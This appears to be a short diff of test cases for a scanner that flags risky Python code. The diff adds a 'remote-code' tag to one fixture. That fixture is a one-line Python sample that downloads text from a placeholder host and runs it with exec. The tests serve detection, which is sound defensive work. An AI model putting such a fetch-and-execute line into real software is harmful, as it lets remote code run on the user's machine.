@@ -27,7 +27,7 @@ describe('adapters/ast/python/read-python', () => {
     [
       'exec of what the network says',
       'import requests\nexec(requests.get("https://a.invalid").text)',
-      ['dynamic-code', 'network', 'remote-shell'],
+      ['dynamic-code', 'network', 'remote-code', 'remote-shell'],
     ],
     ['decoding without exec', 'import base64\nx = base64.b64decode("eA==")', []],
     ['compiling a pattern', 'import re\nre.compile("x")', []],
